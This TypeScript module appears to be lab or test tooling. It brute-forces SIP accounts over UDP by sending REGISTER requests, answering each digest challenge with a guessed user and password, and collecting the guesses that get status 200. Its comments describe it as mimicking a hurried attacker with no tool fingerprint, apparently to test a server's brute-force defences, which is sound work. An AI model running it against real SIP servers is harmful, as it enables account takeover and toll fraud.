import { setTimeout as sleep } from 'node:timers/promises';
import { challengeOf, digestAnswer } from '../../../src/lab/phone/digest-answer.ts';
import { requestText, statusOf, token } from './sip-text.ts';
import type { UdpClient } from './udp-client.ts';

export interface Guess {
  readonly user: string;
  readonly password: string;
}

export interface GuessResult {
  /** Guesses that the server answered, in order, with its final status. */
  readonly answered: readonly (Guess & { readonly status: number })[];
  /** Guesses that got nothing: no challenge to answer, or no verdict on the answer. */
  readonly unanswered: number;
  readonly found: readonly Guess[];
}

const WAIT_MS = 300;

/**
 * Tries passwords one after the other, each on a challenge of its own call, without any mark of a tool. An attacker in a
 * hurry: what is not answered soon is passed over. Kamailio's challenges of one second are the same.
 * @param pauseMs after each guess
 */
export const guessUdp = async (
  client: UdpClient,
  domain: string,
  guesses: readonly Guess[],
  pauseMs = 0,
): Promise<GuessResult> => {
  const uri = `sip:${domain}`;
  const answered: (Guess & { status: number })[] = [];
  let unanswered = 0;
  for (const guess of guesses) {
    const aor = `sip:${guess.user}@${domain}`;
    const callId = token();
    const fits = (text: string): boolean => text.includes(callId) && statusOf(text) >= 200;
    const parts = { method: 'REGISTER', uri, from: aor, to: aor, local: client.local, callId };
    const challenge = await client.ask(requestText(parts), { withinMs: WAIT_MS, fits });
    const offer = challengeOf(challenge ?? '');
    if (offer === undefined) {
      unanswered += 1;
      continue;
    }
    const claim = { ...guess, method: 'REGISTER', uri, count: 1 };
    const attempt = requestText({ ...parts, cseq: 2, more: [digestAnswer(offer, claim)] });
    const verdict = await client.ask(attempt, {
      withinMs: WAIT_MS,
      fits: (text) => fits(text) && /^CSeq: 2 /m.test(text),
    });
    if (verdict === undefined) unanswered += 1;
    else answered.push({ ...guess, status: statusOf(verdict) });
    if (pauseMs > 0) await sleep(pauseMs);
  }
  return { answered, unanswered, found: answered.filter(({ status }) => status === 200) };
};
